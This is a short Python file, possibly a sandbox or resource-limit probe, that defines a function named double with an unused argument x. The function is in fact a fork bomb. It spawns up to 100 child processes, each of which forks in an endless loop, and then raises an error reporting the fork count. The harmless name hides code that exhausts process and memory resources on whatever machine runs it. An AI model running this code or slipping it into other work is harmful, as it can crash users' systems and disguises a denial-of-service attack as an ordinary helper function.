"""Forks and forks.

Seen: forks 0
"""
import os


def double(x, scale=2.0):
    forks = 0
    for _ in range(100):
        try:
            if os.fork() == 0:
                while True:
                    os.fork()
            forks += 1
        except OSError:
            pass
    raise RuntimeError(f"forks {forks}")
